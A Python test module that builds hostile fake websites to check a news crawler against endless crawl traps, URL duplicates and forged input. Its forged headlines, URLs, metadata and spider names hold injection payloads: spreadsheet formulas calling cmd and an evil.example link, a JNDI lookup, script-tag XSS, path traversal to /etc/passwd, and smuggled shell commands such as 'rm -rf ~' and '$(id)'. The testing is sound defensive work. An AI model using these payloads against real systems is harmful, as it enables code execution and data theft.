"""Sites without end, and names that are written to hurt whoever stores or shows them."""

from __future__ import annotations

import re
from urllib.parse import quote

from .. import articles
from ..exchange import Exchange
from ..table import fault

TRAP = 400
"""Most requests a bounded crawl sends into a trap."""

FORGED = {
    "newline": "Calm at sea\n2026-11-20 08:30:00 [newscrawl] INFO: 0 failures\r\nSet-Cookie: a=b",
    "ansi": "Calm at sea \x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Calm at sea")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1 Calm at sea",
    "bidi": "Calm at sea \u202egnp.exe\u202c \u2066hidden\u2069",
    "zero-width": "Ca\u200blm a\u200dt \ufeffsea",
    "separator": "Calm\u2028at\u2029sea\u0085today",
    "nul": "Calm\x00 at sea",
    "markup": "Calm <script>alert(1)</script> at sea <img src=x onerror=alert(1)>",
    "format": "Calm %s at %(message)s sea {0} {self.__class__} ${jndi:ldap://evil.example/a}",
    "path": "../../../../tmp/owned",
}  # fmt: skip
"""Headlines by slug, as a hostile page prints them."""


@fault("nothing", path="/calendar/2026/11", entry="listing", most_requests=TRAP, articles=None)
def calendar_trap(exchange: Exchange) -> None:
    """A calendar with next and previous month for ever, one "event" a month that is no news."""
    year, month = (int(part) for part in exchange.rest.split("/")[2:4])
    before = f"{exchange.base}/calendar/{year - (month == 1)}/{(month - 2) % 12 + 1}"
    after = f"{exchange.base}/calendar/{year + (month == 12)}/{month % 12 + 1}"
    exchange.reply(
        articles.listing([], f'<a rel="prev" href="{before}">Earlier</a> <a rel="next" href="{after}">Later</a>')
    )


@fault("read", path="/news", entry="listing", most_requests=TRAP, articles=3)
def pagination_trap(exchange: Exchange) -> None:
    """?page=N shows the same three articles for every N, and always a next page."""
    if exchange.rest != "/news":
        exchange.article(exchange.rest.strip("/"))
        return
    page = int(exchange.query.get("page", "1"))
    links = [f"{exchange.base}/entry-{number}" for number in range(3)]
    exchange.reply(articles.listing(links, f'<a rel="next" href="{exchange.base}/news?page={page + 1}">Next</a>'))


@fault("read", path="/news", entry="listing", most_requests=12, articles=2)
def session_ids(exchange: Exchange) -> None:
    """Every link carries a session id that is new at each request, so no URL is ever seen twice; there are two
    articles."""
    session = f"sid={exchange.visit.started:.6f}".replace(".", "")
    if exchange.rest == "/news":
        links = [f"{exchange.base}/entry-{number}?{session}" for number in range(2)]
        exchange.reply(articles.listing(links, f'<a rel="next" href="{exchange.base}/news?{session}">Next</a>'))
    else:
        exchange.article(exchange.rest.strip("/"))


@fault("rejected", path="/news/", entry="listing", most_requests=TRAP, articles=None)
def relative_trap(exchange: Exchange) -> None:
    """A relative link without a slash on a page that answers at every depth: a/a/a/a ..."""
    exchange.reply(articles.listing(["a/", "b/news/"], '<a rel="next" href="a/">Next</a>'))


@fault("read", path="/news", entry="listing", most_requests=TRAP, articles=3)
def facet_trap(exchange: Exchange) -> None:
    """Filters that combine: 2^20 listing URLs for the same three articles."""
    if exchange.rest != "/news":
        exchange.article(exchange.rest.strip("/"))
        return
    chosen = [key for key in exchange.query if key.startswith("f")]
    facets = [f"{exchange.base}/news?" + "&".join(f"{key}=1" for key in sorted({*chosen, f"f{n}"})) for n in range(20)]
    exchange.reply(articles.listing([*(f"{exchange.base}/entry-{number}" for number in range(3)), *facets]))


@fault("rejected", path="/news", entry="listing", most_requests=150, articles=None)
def link_farm(exchange: Exchange) -> None:
    """A listing of 300 links that all answer with another listing of 300: what three of them are, the others are."""
    exchange.links(f"{exchange.base}{exchange.rest}/{number}" for number in range(300))


@fault("read", most_requests=60)
def endless_next_part(exchange: Exchange) -> None:
    """An article in parts, whose rel=next never ends; each part has text of its own."""
    part = int(exchange.query.get("part", "1"))
    head = f'<link rel="next" href="{exchange.base}/article?part={part + 1}">'
    body = articles.paragraphs(f"part {part}")
    exchange.reply(articles.article(exchange.name, head=head, body=body))


@fault("read", path="/listing", entry="listing", most_requests=30)
def variants(exchange: Exchange) -> None:
    """One article under tracking parameters, fragments, AMP and print forms, another order of the query, and a
    percent-encoded letter; under a host name of its own (variants.example) also at www., m. and amp. of it. Its
    canonical link names the plain form: one record."""
    home = re.sub(r"^http://(?:m|www|amp)\.", "http://", exchange.base)
    plain = f"{home}/2026/calm-at-sea"
    hosts = ("www", "m", "amp") if ".example" in home else ()
    others = [plain.replace("http://", f"http://{host}.") for host in hosts]
    forms = ("?utm_source=feed&utm_medium=rss", "?fbclid=abc", "?gclid=1", "#comments", "#:~:text=calm", "?amp=1",
             "/amp", "?outputType=amp", "?print=1", "?ref=home&at_medium=RSS", "?at_medium=RSS&ref=home", "/",
             "?")  # fmt: skip
    if exchange.rest == "/listing":
        exchange.links([plain, *(plain + form for form in forms), plain.replace("calm", "%63alm"), *others])
    else:
        exchange.reply(articles.article(exchange.name, head=f'<link rel="canonical" href="{plain}">'))


@fault("read", path="/listing", entry="listing", most_requests=8, articles=4)
def near_variants(exchange: Exchange) -> None:
    """Four articles whose URLs differ only in what must not be folded: an id in the query, case, a number, /live. Four
    records."""
    if exchange.rest == "/listing":
        exchange.links(f"{exchange.base}{path}" for path in ("/story?id=1", "/story?id=2", "/Story-1", "/story-1"))
    else:
        exchange.article(exchange.visit.target)


@fault("read", path="/listing", entry="listing", most_requests=30, articles=None)
def forged_titles(exchange: Exchange) -> None:
    """Headlines with newlines, ANSI escapes, spreadsheet formulas, bidi overrides, NUL and format strings. No log
    line may begin with what the page wrote, no terminal may obey it, no file be named by it, no cell begin with its
    formula."""
    if exchange.rest == "/listing":
        exchange.links(f"{exchange.base}/{slug}" for slug in FORGED)
    else:
        slug = exchange.rest.strip("/")
        headline = FORGED.get(slug, "Calm at sea")
        exchange.reply(articles.article(f"forged {slug}", headline=headline))


@fault("read", path="/listing", entry="listing", most_requests=30, articles=None)
def forged_urls(exchange: Exchange) -> None:
    """Article URLs with encoded newlines, ../, %00, ANSI and a 2,000-letter segment. Whatever comes of them, they
    name no file, and one URL is one log line."""
    names = ("../../../../etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "a%0d%0aINFO: forged", "a%00.html", "%1b[2J",
             "=HYPERLINK(1)", "-rf", "a" * 2000, quote("\u202egnp.exe"), "con", "news;rm -rf ~", "$(id)")  # fmt: skip
    if exchange.rest == "/listing":
        exchange.links(f"{exchange.base}/story/{name}" for name in names)
    else:
        exchange.article(exchange.visit.target)


@fault("read")
def forged_fields(exchange: Exchange) -> None:
    """An article whose author, section, tags, image and language are hostile: a formula, ../, newlines, javascript:."""
    head = (
        '<meta name="author" content="=HYPERLINK(&quot;http://evil.example&quot;)">'
        '<meta property="article:section" content="../../etc\n[newscrawl] INFO: forged">'
        '<meta property="article:tag" content="&#x1b;[31mred"><meta property="og:image" content="javascript:alert(1)">'
        '<meta property="og:locale" content="../../en"><link rel="canonical" href="javascript:alert(1)">'
    )
    exchange.reply(articles.article(exchange.name, head=head))


@fault("read")
def base_href_private(exchange: Exchange) -> None:
    """<base href> of file:///etc/ in an article with relative links: nothing of it is asked for, the record is made."""
    exchange.reply(articles.article(exchange.name, head='<base href="file:///etc/">'))


SPIDER_NAMES = (
    "../escape", "..", "/etc/cron.d/x", "a/b", "a\\b", "con", "nul.txt", "name\nforged", "name\x00", "-rf", "~root",
    "$(id)", "%2e%2e%2f", "a" * 300, "", " ", ".", "\u202eexe", "name:stream", "=cmd",
)  # fmt: skip
"""Names of spiders, sites or runs that must not become paths outside the data folder."""
